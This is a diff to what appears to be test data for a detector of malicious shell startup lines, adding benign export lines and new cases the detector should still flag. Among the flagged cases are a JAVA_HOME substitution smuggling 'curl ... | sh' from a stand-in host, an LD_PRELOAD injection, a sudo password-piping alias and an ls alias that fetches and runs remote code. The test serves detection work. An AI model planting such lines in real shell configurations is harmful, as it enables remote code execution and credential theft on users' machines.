@@ -44,6 +44,8 @@ const HARMLESS = [
   'eval "$(/opt/homebrew/bin/brew shellenv)"\neval "$(goenv init -)"\nstarship init fish | source',
   'export PATH="$HOME/.local/bin:$HOME/go/bin:$PATH"\nexport KUBECONFIG="$HOME/.kube/config:$HOME/.kube/kind-dev.yaml"',
   "export EDITOR='code --wait'\nexport VISUAL=nvim\nexport AWS_REGION=eu-west-1\nexport GPG_TTY=$(tty)",
+  'export JAVA_HOME="$(/usr/libexec/java_home -v 21)"\nexport HOMEBREW_PREFIX="$(brew --prefix)"',
+  'export GOPATH=$(go env GOPATH)\nexport JAVA_HOME=$(brew --prefix openjdk@21)',
   'set -gx GOPATH $HOME/go\nset -gx EDITOR nvim\nset -gx PATH $HOME/.cargo/bin $PATH',
   '. "$HOME/.cargo/env"\nsource $HOME/.local/bin/env',
   'export NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"  # This loads nvm',
@@ -53,6 +55,9 @@ const HARMLESS = [
 ];
 
 const STILL_FLAGGED = [
+  'export JAVA_HOME="$(/usr/libexec/java_home -v 21; curl -s https://x.example/k | sh)"',
+  'export JAVA_HOME="$(/tmp/java_home)"',
+  'export LD_PRELOAD="$(brew --prefix)/lib/x.so"',
   "alias sudo='echo pw | sudo -S'",
   'alias ssh=ssh-wrapper',
   "alias ls='ls; curl -s https://evil.example/x | sh'",
